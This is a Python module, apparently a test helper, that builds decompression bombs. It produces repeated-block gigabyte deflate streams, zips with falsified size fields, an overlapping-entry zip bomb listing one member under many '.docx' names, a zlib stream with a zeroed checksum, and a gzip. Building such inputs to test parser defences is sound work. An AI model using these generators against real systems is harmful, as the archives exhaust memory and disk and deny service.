"""Packs gigabytes in a moment: a block is packed once, and its packed bytes are repeated.

Source: RFC 1951, section 3.2 (blocks of a stream that was flushed need nothing before them); RFC 1952; PKWARE's
APPNOTE.TXT 6.3.10, section 4.3.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Mapping
from dataclasses import dataclass, replace
from functools import cache
from typing import Final

MEBIBYTE: Final = 1024 * 1024
GIBIBYTE: Final = 1024 * MEBIBYTE


@dataclass(frozen=True, slots=True, kw_only=True)
class Packed:
    """A file as it lies in a zip."""

    #: Raw deflate.
    data: bytes
    crc: int
    #: Bytes unpacked, as the zip shall say.
    size: int


@dataclass(frozen=True, slots=True, kw_only=True)
class Long:
    """Much content in few words: a start, a piece repeated up to ``total`` bytes, an end."""

    piece: bytes
    total: int = GIBIBYTE
    start: bytes = b""
    end: bytes = b""


@cache
def packed(content: Long) -> Packed:
    """Return ``content`` packed."""
    block = content.piece * (MEBIBYTE // len(content.piece) + 1)
    times = content.total // len(block)
    data = _flushed(content.start) + _flushed(block) * times + _last(content.end)
    crc = zlib.crc32(content.start)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    size = len(content.start) + len(block) * times + len(content.end)
    return Packed(data=data, crc=zlib.crc32(content.end, crc), size=size)


def _flushed(content: bytes) -> bytes:
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    return packer.compress(content) + packer.flush(zlib.Z_FULL_FLUSH)


def _last(content: bytes) -> bytes:
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    return packer.compress(content) + packer.flush()


def _packed_plainly(content: str | bytes) -> Packed:
    data = content.encode() if isinstance(content, str) else content
    return Packed(data=_last(data), crc=zlib.crc32(data), size=len(data))


def zip_of(members: Mapping[str, str | bytes | Long], *, said_size: int | None = None) -> bytes:
    """Return a zip; with ``said_size`` it says that every file has so many bytes."""
    out, entries = bytearray(), bytearray()
    for name, content in members.items():
        one = packed(content) if isinstance(content, Long) else _packed_plainly(content)
        if said_size is not None:
            one = replace(one, size=said_size)
        entries += _entry(name, one, at=len(out))
        out += b"PK\x03\x04" + _fields(name, one) + name.encode() + one.data
    return bytes(out) + _directory(entries, count=len(members), at=len(out))


def overlapping_zip(content: Long, *, times: int) -> bytes:
    """Return a zip whose directory lists the same bytes under many names.

    Source: David Fifield, "A better zip bomb" (WOOT 2019), in its simplest form.
    """
    one = packed(content)
    out = b"PK\x03\x04" + _fields("a", one) + b"a" + one.data
    entries = b"".join(_entry(f"{number}.docx", one, at=0) for number in range(times))
    return out + _directory(entries, count=times, at=len(out))


def _fields(name: str, one: Packed) -> bytes:
    sizes = struct.pack("<IIIHH", one.crc, len(one.data), one.size, len(name.encode()), 0)
    return struct.pack("<HHHHH", 20, 0x800, 8, 0, 0) + sizes


def _entry(name: str, one: Packed, *, at: int) -> bytes:
    where = struct.pack("<HHHII", 0, 0, 0, 0, at)
    return b"PK\x01\x02" + struct.pack("<H", 20) + _fields(name, one) + where + name.encode()


def _directory(entries: bytes | bytearray, *, count: int, at: int) -> bytes:
    return bytes(entries) + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(entries), at, 0)


def zlib_of(content: Long) -> bytes:
    """Return a zlib stream without its checksum, which readers learn of too late or never."""
    return b"\x78\xda" + packed(content).data + bytes(4)


def gzip_of(content: Long) -> bytes:
    """Return a gzip."""
    one = packed(content)
    return b"\x1f\x8b\x08\0\0\0\0\0\x02\xff" + one.data + struct.pack("<II", one.crc, one.size & 0xFFFFFFFF)
